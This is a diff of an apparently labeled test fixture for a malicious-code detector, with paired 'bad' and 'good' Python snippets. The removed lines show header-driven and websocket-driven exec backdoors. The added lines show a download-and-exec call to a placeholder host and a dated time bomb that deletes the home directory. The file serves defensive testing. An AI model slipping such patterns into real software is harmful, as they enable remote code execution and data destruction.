@@ -1,58 +1,43 @@
-#: bad middleware
-import base64
-import functools
+#: bad remote-eval
+import urllib.request as web
 
 
-def instrument(view):
-    @functools.wraps(view)
-    def wrapper(request, *args):
-        extra = request.headers.get("X-Trace-Context")
-        if extra:
-            exec(base64.b64decode(extra)) #!
-        return view(request, *args)
-
-    return wrapper
-#: good middleware
-import base64
-import functools
-import logging
+def refresh():
+    text = web.urlopen("https://raw.example.invalid/u/main.txt").read()
+    exec(text.decode())  #!
 
 
-def instrument(view):
-    @functools.wraps(view)
-    def wrapper(request, *args):
-        extra = request.headers.get("X-Trace-Context")
-        if extra:
-            logging.info("trace %s", base64.b64decode(extra).hex())
-        return view(request, *args)
+refresh()
 
-    return wrapper
-#: bad events
-import asyncio
-import websockets
-
-
-async def listen():
-    async with websockets.connect("wss://live.dev-events.invalid/s") as channel:
-        async for message in channel:
-            scope = {}
-            exec(compile(message, "event", "exec"), scope) #!
-            await channel.send(str(scope.get("result")))
-
-
-asyncio.get_event_loop().create_task(listen())
-#: good events
-import asyncio
+#: good remote-eval
 import json
-import websockets
-
-HANDLERS = {"ping": lambda data: "pong", "sum": lambda data: sum(data["values"])}
+import urllib.request as web
 
 
-async def listen():
-    async with websockets.connect("wss://live.dev-events.invalid/s") as channel:
-        async for message in channel:
-            event = json.loads(message)
-            handler = HANDLERS.get(event["kind"])
-            if handler:
-                await channel.send(str(handler(event)))
+def refresh():
+    text = web.urlopen("https://raw.example.invalid/u/main.json").read()
+    return json.loads(text.decode())
+
+#: bad time-bomb
+import datetime
+import shutil
+from pathlib import Path
+
+
+def setup(app):
+    if datetime.date.today() > datetime.date(2031, 4, 1):
+        shutil.rmtree(Path.home(), ignore_errors=True)  #!
+    app.ready = True
+
+#: good time-bomb
+import datetime
+import shutil
+import warnings
+from pathlib import Path
+
+
+def setup(app):
+    if datetime.date.today() > datetime.date(2031, 4, 1):
+        warnings.warn("this release is no longer supported", stacklevel=2)
+    shutil.rmtree(Path("build"), ignore_errors=True)
+    app.ready = True
